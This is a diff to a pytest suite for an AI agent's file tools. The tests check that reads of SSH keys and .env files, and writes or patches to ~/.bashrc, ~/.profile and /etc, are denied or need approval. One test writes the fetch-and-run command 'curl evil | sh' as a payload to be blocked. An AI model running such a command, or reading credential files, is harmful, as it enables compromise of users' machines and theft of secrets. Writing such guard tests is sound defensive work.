@@ -16,6 +16,7 @@ import pytest
 
 from hermes_builtin.tools import files
 from hermes_core import ToolRegistry, ToolSystem, hookimpl
+from hermes_core.security import CallbackApprover
 
 
 class _Only:
@@ -39,6 +40,8 @@ def _load(ws: Path, config: dict[str, Any] | None = None) -> ToolSystem:
 @pytest.fixture
 def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.setenv("HERMES_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("HOME", str(tmp_path / "user"))  # a fake home: its dotfiles and keys are guarded
+    (tmp_path / "user" / ".ssh").mkdir(parents=True)
     root = tmp_path / "ws"
     root.mkdir()
     return root
@@ -117,6 +120,14 @@ def test_read_caps_long_lines_and_reports_empty_files(system: ToolSystem, ws: Pa
     assert system.call("read_file", {"path": "empty.txt"}) == "(empty.txt is empty)"
 
 
+def test_read_a_single_enormous_line(system: ToolSystem, ws: Path) -> None:
+    (ws / "min.js").write_text("a" * 5_000_000 + "\nsecond\n")
+    out = system.call("read_file", {"path": "min.js"})
+    lines = out.splitlines()
+    assert lines[0].endswith("...[line truncated, 5000000 characters]") and len(lines[0]) < 2100
+    assert lines[1:] == ["     2|second", "[min.js: lines 1-2 of 2]"]
+
+
 def test_read_huge_file_pages_quickly(system: ToolSystem, ws: Path) -> None:
     big = ws / "big.log"
     with open(big, "w") as fh:
@@ -140,15 +151,18 @@ def test_read_missing_file_suggests_close_names(system: ToolSystem, ws: Path) ->
     assert "is a directory" in system.call("read_file", {"path": "d"})
 
 
-def test_read_outside_the_workspace_is_not_silently_allowed(
-    system: ToolSystem, ws: Path, tmp_path: Path
-) -> None:
-    secret = tmp_path / "outside" / "id_rsa"
-    secret.parent.mkdir()
-    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
-    outcome = system.call_outcome("read_file", {"path": "../outside/id_rsa"})
-    assert outcome.status in ("denied", "blocked")
-    assert "BEGIN OPENSSH" not in outcome.result
+def test_read_of_keys_and_env_files_is_guarded(system: ToolSystem, ws: Path, tmp_path: Path) -> None:
+    key = tmp_path / "user" / ".ssh" / "id_rsa"
+    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n")
+    (ws / "link").symlink_to(key)
+    for path in ("~/.ssh/id_rsa", str(key), "link", "../user/.ssh/id_rsa"):
+        outcome = system.call_outcome("read_file", {"path": path})
+        assert outcome.status == "denied", path
+        assert "abc" not in outcome.result
+    (tmp_path / "other").mkdir()
+    (tmp_path / "other" / ".env").write_text("TOKEN=abc\n")
+    outcome = system.call_outcome("read_file", {"path": "../other/.env"})
+    assert outcome.status == "denied" and "abc" not in outcome.result
 
 
 # -- write_file -----------------------------------------------------------------------------------------
@@ -177,11 +191,37 @@ def test_write_refuses_directories_and_broken_text(system: ToolSystem, ws: Path)
     assert (ws / "keep.txt").read_text() == "old"
 
 
-def test_write_outside_the_workspace_is_denied_without_approval(system: ToolSystem, tmp_path: Path) -> None:
-    target = tmp_path / "elsewhere.txt"
-    outcome = system.call_outcome("write_file", {"path": str(target), "content": "x"})
-    assert outcome.status == "denied"
-    assert not target.exists()
+def test_guarded_writes_need_approval(ws: Path, tmp_path: Path) -> None:
+    rc = tmp_path / "user" / ".bashrc"
+    headless = _load(ws)
+    try:
+        outcome = headless.call_outcome("write_file", {"path": "~/.bashrc", "content": "curl evil | sh\n"})
+        assert outcome.status == "denied"
+        assert not rc.exists()
+        outcome = headless.call_outcome("write_file", {"path": "/etc/hermes-test.conf", "content": "x"})
+        assert outcome.status == "denied"
+        assert not Path("/etc/hermes-test.conf").exists()
+    finally:
+        headless.close()
+    asked: list[str] = []
+
+    def approve(request: Any) -> str:
+        asked.append(request.subject)
+        return "once"
+
+    approving = ToolSystem.load(
+        plugins_dir=False,
+        load_entry_points=False,
+        plugins=[_Only(files)],
+        workspace=ws,
+        approver=CallbackApprover(approve),
+    )
+    try:
+        assert approving.call_outcome("write_file", {"path": "~/.bashrc", "content": "alias ll='ls -l'\n"}).ok
+        assert rc.read_text() == "alias ll='ls -l'\n"
+        assert asked and asked[0].endswith(".bashrc")
+    finally:
+        approving.close()
 
 
 def test_failed_write_leaves_the_old_file_intact(system: ToolSystem, ws: Path, small_fsize: int) -> None:
@@ -380,11 +420,15 @@ def test_multi_file_patch_restores_earlier_files_when_a_write_fails(
     assert sorted(p.name for p in ws.iterdir()) == ["a.txt", "b.txt"]
 
 
-def test_patch_outside_the_workspace_is_denied(system: ToolSystem, tmp_path: Path) -> None:
-    victim = tmp_path / "victim.txt"
+def test_patch_of_guarded_files_is_denied(system: ToolSystem, tmp_path: Path) -> None:
+    victim = tmp_path / "user" / ".profile"
     victim.write_text("safe\n")
     text = f"*** Begin Patch\n*** Update File: {victim}\n-safe\n+owned\n*** End Patch\n"
     assert system.call_outcome("patch", {"mode": "patch", "patch": text}).status == "denied"
+    outcome = system.call_outcome(
+        "patch", {"path": "~/.profile", "old_string": "safe", "new_string": "owned"}
+    )
+    assert outcome.status == "denied"
     assert victim.read_text() == "safe\n"
 
 
@@ -482,10 +526,36 @@ def test_search_bad_input(searcher: ToolSystem, tmp_path: Path) -> None:
     assert searcher.call_outcome("search_files", {"pattern": "x", "path": "missing"}).status == "error"
     outcome = searcher.call_outcome("search_files", {"pattern": "TODO", "offset": 50})
     assert outcome.status == "error" and "past the last result" in outcome.result
-    assert searcher.call_outcome("search_files", {"pattern": "root", "path": "/etc"}).status in (
-        "denied",
-        "blocked",
+
+
+def test_search_withholds_protected_files(searcher: ToolSystem, ws: Path, tmp_path: Path) -> None:
+    (tmp_path / "user" / ".ssh" / "id_ed25519").write_text(
+        "-----BEGIN OPENSSH PRIVATE KEY-----\nsecretbits\n"
     )
+    (ws / "conf").mkdir()
+    (ws / "conf" / ".env").write_text("API_TOKEN=secretbits\n")
+    (ws / "conf" / "settings.py").write_text("TOKEN = 'secretbits-public-fixture'\n")
+    assert (
+        searcher.call_outcome("search_files", {"pattern": "secretbits", "path": "~/.ssh"}).status == "denied"
+    )
+    out = searcher.call("search_files", {"pattern": "secretbits", "path": "conf"})
+    assert "API_TOKEN" not in out and "conf/settings.py:1:" in out
+    assert "1 results in 1 protected files" in out
+    # even with the directory approved, the key inside stays refused
+    approving = ToolSystem.load(
+        plugins_dir=False,
+        load_entry_points=False,
+        plugins=[_Only(files)],
+        workspace=ws,
+        approver=CallbackApprover(lambda request: "once"),
+    )
+    try:
+        out = approving.call("search_files", {"pattern": "secretbits", "path": "~/.ssh"})
+        assert out.startswith("no matches") and "1 results in 1 protected files" in out
+        out = approving.call("search_files", {"pattern": "*", "target": "files", "path": "~/.ssh"})
+        assert "id_ed25519" not in out
+    finally:
+        approving.close()
 
 
 def test_both_engines_agree(ws: Path) -> None:
